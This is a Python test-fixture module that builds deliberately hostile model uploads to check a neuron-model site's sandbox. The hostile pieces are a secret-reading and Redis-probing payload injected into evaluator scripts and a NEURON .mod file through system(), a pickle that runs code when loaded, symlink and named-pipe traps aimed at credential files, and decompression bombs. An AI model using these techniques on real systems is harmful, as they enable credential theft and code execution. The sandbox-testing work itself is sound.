"""Hostile models and results, built from the demo model, for the sandbox's tests.

Each payload runs one probe: Python that tries what a hostile user would (read the site's
credentials key, its database, its environment's secrets and another user's stored file;
talk to the site's Redis; write outside its work folder) and records what it managed, as
``hostile-report.json`` in its working folder and as a ``HOSTILE-REPORT {...}`` line on its
standard output and error. The probe never copies what it read into the report (sizes
only), so the report itself is no leak; the tests look for the secrets everywhere else.

The payload models stay complete and valid (every mechanism defined, keys matching), so
that the import checks let them in and only the sandbox stands in their way.
"""

from __future__ import annotations

import io
import json
import pickle
import re
import shutil
import tarfile
import zipfile
from dataclasses import asdict, dataclass, field
from pathlib import Path

from models_app.bpo.archive import extract_zip
from models_app.bpo.package import build_package
from tests.fixtures.demo import DEMO_FOLDER, DEMO_NAME

REPORT_NAME = "hostile-report.json"
REPORT_MARK = "HOSTILE-REPORT "
PROBE_SCRIPT = "hostile_probe.py"
# Environment variables whose presence in a model's process is a leak.
SECRET_VARIABLES = (
    "SECRET_KEY",
    "CREDENTIALS_KEY",
    "DATABASE_URL",
    "REDIS_URL",
    "NSG_APP_KEY",
    "S3_ACCESS_KEY_ID",
    "S3_SECRET_ACCESS_KEY",
    "TEST_POSTGRES_URL",
)


@dataclass(frozen=True)
class Targets:
    """What the probe goes for: paths and the Redis port are the site's real ones."""

    secret_files: dict[str, str]  # what -> absolute path (credentials key, database, ...)
    folders_to_list: dict[str, str]  # what -> folder (other users' storage, the var folder)
    redis_port: int
    write_targets: dict[str, str]  # what -> absolute path of a file the probe tries to create
    secret_variables: tuple[str, ...] = SECRET_VARIABLES
    break_model: bool = False  # raise once done: the model then fails as a model does
    extra: dict[str, str] = field(default_factory=dict)

    def as_json(self) -> str:
        return json.dumps(asdict(self))


_PROBE = r"""
def _hostile_probe(targets):
    import json, os, socket, sys
    report = {"pid": os.getpid(), "cwd": os.getcwd(), "attempts": []}

    def attempt(kind, what, managed, detail=""):
        report["attempts"].append(
            {"kind": kind, "what": what, "managed": bool(managed), "detail": str(detail)[:300]}
        )

    for what, path in targets["secret_files"].items():
        try:
            with open(path, "rb") as stream:
                data = stream.read()
            attempt("read", what, True, f"read {len(data)} bytes")
        except Exception as error:
            attempt("read", what, False, repr(error))
    here = os.getcwd() + os.sep
    for what, path in targets["folders_to_list"].items():
        try:
            # The folders on the way to its own work folder it may see; anything else, not.
            entries = [
                name for name in os.listdir(path)
                if not here.startswith(os.path.join(path, name) + os.sep)
            ]
            attempt("list", what, bool(entries), f"{len(entries)} other entries")
        except Exception as error:
            attempt("list", what, False, repr(error))
    present = sorted(name for name in targets["secret_variables"] if name in os.environ)
    attempt("environment", "own environment", bool(present), ", ".join(present))
    found = []
    for pid in os.listdir("/proc") if os.path.isdir("/proc") else []:
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            with open(f"/proc/{pid}/environ", "rb") as stream:
                names = {item.split(b"=", 1)[0].decode(errors="replace")
                         for item in stream.read().split(b"\0") if item}
        except Exception:
            continue
        hits = sorted(name for name in targets["secret_variables"] if name in names)
        if hits:
            found.append(f"{pid}: {', '.join(hits)}")
    attempt("environment", "other processes' environments", bool(found), "; ".join(found))
    try:
        with socket.create_connection(("127.0.0.1", targets["redis_port"]), timeout=3) as conn:
            conn.sendall(b"PING\r\nSET hostile-probe-was-here 1\r\n")
            conn.settimeout(3)
            reply = conn.recv(100)
        attempt("network", "redis", bool(reply), reply[:40])
    except Exception as error:
        attempt("network", "redis", False, repr(error))
    for what, path in targets["write_targets"].items():
        try:
            with open(path, "x") as stream:
                stream.write("written by a hostile model\n")
            attempt("write", what, True, path)
        except Exception as error:
            attempt("write", what, False, repr(error))
    line = "HOSTILE-REPORT " + json.dumps(report)
    for stream in (sys.stdout, sys.stderr):
        print(line, file=stream, flush=True)
    try:
        with open("hostile-report.json", "w") as stream:
            json.dump(report, stream)
    except Exception:
        pass
    if targets["break_model"]:
        raise RuntimeError("the hostile probe broke the model on purpose")
"""


def probe_code(targets: Targets) -> str:
    """Python source that runs the probe once, where it is executed."""
    return f"{_PROBE}\n_hostile_probe(__import__('json').loads({targets.as_json()!r}))\n"


def reports_in(text: str) -> list[dict]:
    """Every probe report printed in ``text`` (a log, STDOUT, an error's details)."""
    return [
        json.loads(line.split(REPORT_MARK, 1)[1])
        for line in text.splitlines()
        if REPORT_MARK in line
    ]


# --- model folders -------------------------------------------------------------------


def demo_copy(dest: Path, name: str) -> Path:
    """A copy of the demo model under a new name (the folder name is the model's name)."""
    folder = dest / name
    shutil.copytree(DEMO_FOLDER, folder, ignore=shutil.ignore_patterns("__pycache__", "x86_64"))
    meta = DEMO_FOLDER.parent / f"{DEMO_NAME}_meta.json"
    if meta.exists():
        shutil.copyfile(meta, dest / f"{name}_meta.json")
    return folder


def with_evaluator_payload(folder: Path, targets: Targets) -> Path:
    """model/evaluator.py begins with the probe, before its own code (as reported)."""
    evaluator = folder / "model" / "evaluator.py"
    evaluator.write_text(probe_code(targets) + evaluator.read_text())
    return folder


def with_opt_neuron_payload(folder: Path, targets: Targets) -> Path:
    """opt_neuron.py runs the probe first, then optimises as before."""
    script = folder / "opt_neuron.py"
    script.write_text(probe_code(targets) + script.read_text())
    return folder


def with_mod_payload(folder: Path, targets: Targets) -> Path:
    """hd.mod's INITIAL block calls system() once per process, which runs the probe.

    The probe ships beside opt_neuron.py as a top-level script, as a model's helpers do.
    """
    (folder / PROBE_SCRIPT).write_text(probe_code(targets))
    mod = folder / "mechanisms" / "hd.mod"
    text = mod.read_text()
    verbatim = (
        "\nVERBATIM\n#include <stdlib.h>\nENDVERBATIM\n"
        if "#include <stdlib.h>" not in text
        else ""
    )
    call = (
        "    VERBATIM\n"
        "    { static int hostile_done = 0;\n"
        "      if (!hostile_done) { hostile_done = 1;\n"
        f'        if (system("python3 {PROBE_SCRIPT}")) {{}} }} }}\n'
        "    ENDVERBATIM\n"
    )
    text, count = re.subn(r"INITIAL \{\n", "INITIAL {\n" + call, text, count=1)
    assert count == 1, "the demo's hd.mod has no INITIAL block to put the payload in"
    mod.write_text(text.replace("NEURON {", verbatim.lstrip("\n") + "\nNEURON {", 1))
    return folder


def with_compile_time_include(folder: Path, path: str) -> Path:
    """hd.mod includes a file of the site's at compile time: its text would land in the
    compiler's error log, which the user is shown."""
    mod = folder / "mechanisms" / "hd.mod"
    mod.write_text(f'VERBATIM\n#include "{path}"\nENDVERBATIM\n\n' + mod.read_text())
    return folder


def zip_folder(folder: Path, out: Path) -> Path:
    """The model as a user uploads it: one top folder in a zip."""
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for path in sorted(folder.rglob("*")):
            if path.is_file() and "__pycache__" not in path.parts:
                archive.write(path, f"{folder.name}/{path.relative_to(folder).as_posix()}")
    return out


# --- uploaded results ----------------------------------------------------------------


def nsg_output(folder: Path, dest: Path, *, run_name: str, checkpoint: bytes) -> Path:
    """NSG's output.tar.gz of a finished run of the model ``folder`` (members ``./...``),
    holding ``checkpoint`` as checkpoints/checkpoint.pkl. Nothing is run: the model's code
    runs only where the site analyses it."""
    package = dest / "package.zip"
    build_package(folder, run_name=run_name, offspring_size=2, max_ngen=2, out=package)
    job = dest / "job"
    extract_zip(package, job)
    (job / run_name / "checkpoints").mkdir(exist_ok=True)
    (job / run_name / "checkpoints" / "checkpoint.pkl").write_bytes(checkpoint)
    for name, text in {
        "_JOBINFO.TXT": "JobHandle=NGBW-JOB-BLUEPYOPT_EXPANSE-HOSTILE\n",
        "stdout.txt": "",
        "stderr.txt": "",
        "done.txt": "Job finished\n",
    }.items():
        (job / name).write_text(text)
    tarball = dest / "output.tar.gz"
    with tarfile.open(tarball, "w:gz") as archive:
        archive.add(job, arcname=".")
    return tarball


def demo_checkpoint() -> bytes:
    """The demo's own best run, a real BluePyOpt checkpoint."""
    return (DEMO_FOLDER / "checkpoints" / "seed1.pkl").read_bytes()


class _Exec:
    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self):
        return (exec, (self.code,))


def pickle_payload(targets: Targets) -> bytes:
    """A checkpoint whose unpickling runs the probe (``exec``) and gives None."""
    return pickle.dumps({"hostile": _Exec(probe_code(targets))}, protocol=2)


# Planted by a payload in model/evaluator.py when the simulation process exits: its result
# files become links to the site's secrets and its progress file a named pipe. The site,
# which reads these files outside the sandbox, must refuse them.
_TRAPS = r"""
def _hostile_traps(targets):
    import json, os, sys
    main_pid = os.getpid()
    real_exit = os._exit

    def trap_then_exit(code):
        if os.getpid() == main_pid and len(sys.argv) > 1 and sys.argv[1].endswith(".json"):
            try:
                with open(sys.argv[1]) as stream:
                    request = json.load(stream)
                secret = targets["secret_files"]["credentials key"]
                database = targets["secret_files"]["database"]
                result = request["result_file"]
                if os.path.exists(result):
                    os.replace(result, result + ".real")
                os.symlink(secret, result)
                traces = request["traces_dir"]
                for name in os.listdir(traces):
                    os.unlink(os.path.join(traces, name))
                    os.symlink(database, os.path.join(traces, name))
                progress = request.get("progress_file")
                if progress:
                    if os.path.exists(progress):
                        os.unlink(progress)
                    os.mkfifo(progress)
                print("HOSTILE-TRAPS planted", flush=True)
            except Exception as error:
                print(f"HOSTILE-TRAPS failed: {error!r}", flush=True)
        real_exit(code)

    os._exit = trap_then_exit
"""


def traps_code(targets: Targets) -> str:
    return f"{_TRAPS}\n_hostile_traps(__import__('json').loads({targets.as_json()!r}))\n"


def with_output_traps(folder: Path, targets: Targets) -> Path:
    """model/evaluator.py plants the traps above; the model itself still works."""
    evaluator = folder / "model" / "evaluator.py"
    evaluator.write_text(traps_code(targets) + evaluator.read_text())
    return folder


# --- decompression bombs -------------------------------------------------------------


def bomb_tarball(dest: Path, *, unpacked_bytes: int, base: Path | None = None) -> Path:
    """An output.tar.gz of a few kilobytes per 10 MB that unpacks to ``unpacked_bytes``:
    zeros in one member, beside the members of the tarball ``base`` when given."""
    tarball = dest / "output.tar.gz"
    with tarfile.open(tarball, "w:gz", compresslevel=9) as archive:
        if base is not None:
            with tarfile.open(base) as original:
                for member in original:
                    data = original.extractfile(member) if member.isreg() else None
                    archive.addfile(member, data)
        member = tarfile.TarInfo("./padding/zeros.bin")
        member.size = unpacked_bytes
        archive.addfile(member, _Zeros(unpacked_bytes))
    return tarball


def results_zip(dest: Path, tarball: Path, *, stdout_bytes: int = 0) -> Path:
    """The zip of an NSG job's results (STDOUT, STDERR, output.tar.gz) as users upload it;
    STDOUT holds ``stdout_bytes`` zeros (a few kilobytes per ten megabytes, compressed)."""
    path = dest / "NGBW-JOB-HOSTILE.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        with archive.open("NGBW-JOB-HOSTILE/STDOUT", "w", force_zip64=True) as member:
            shutil.copyfileobj(io.BufferedReader(_Zeros(stdout_bytes)), member, 1024 * 1024)
        archive.writestr("NGBW-JOB-HOSTILE/STDERR", "")
        archive.write(tarball, "NGBW-JOB-HOSTILE/output.tar.gz")
    return path


class _Zeros(io.RawIOBase):
    def __init__(self, size: int) -> None:
        self._left = size

    def readable(self) -> bool:
        return True

    def readinto(self, buffer) -> int:
        count = min(len(buffer), self._left)
        buffer[:count] = bytes(count)
        self._left -= count
        return count
